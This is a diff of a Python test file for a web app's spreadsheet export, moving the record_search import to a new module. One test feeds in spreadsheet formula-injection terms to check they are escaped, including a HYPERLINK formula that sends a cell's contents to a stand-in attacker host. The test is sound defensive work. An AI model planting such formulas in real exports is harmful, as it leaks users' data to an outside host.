@@ -96,12 +96,12 @@ def page_tables(html):
 def cockpit_data(office_user, municipality_user, municipality_org, provider_org):
     """Something in every figure, with commas, quotes and umlauts in the text cells."""
     from accounts.tests.factories import MunicipalityFactory, MunicipalityOrgFactory, member_of
-    from api.searchlog import record_search
     from catalog.models import Reference, Topic
     from catalog.tests.factories import ProviderProfileFactory, SolutionFactory
     from events import services as events
     from events.tests.factories import WorkshopFactory
     from matching.models import Need
+    from matching.searchlog import record_search
 
     profile = ProviderProfileFactory(organisation=provider_org)
     solution = SolutionFactory(
@@ -181,7 +181,7 @@ def read(text):
 def test_a_search_term_never_runs_as_a_formula_in_the_spreadsheet(client_for, office_user):
     """Anonymous visitors write the search terms: a term starting with = + - @ (or a tab) is
     written with a leading ' so Excel and LibreOffice show it instead of running it."""
-    from api.searchlog import record_search
+    from matching.searchlog import record_search
 
     terms = ['=HYPERLINK("https://evil.example/?x="&A1;"Details")', "@SUMME(A1)", "-2+3"]
     for term in terms * 3:  # listed once three visitors searched it
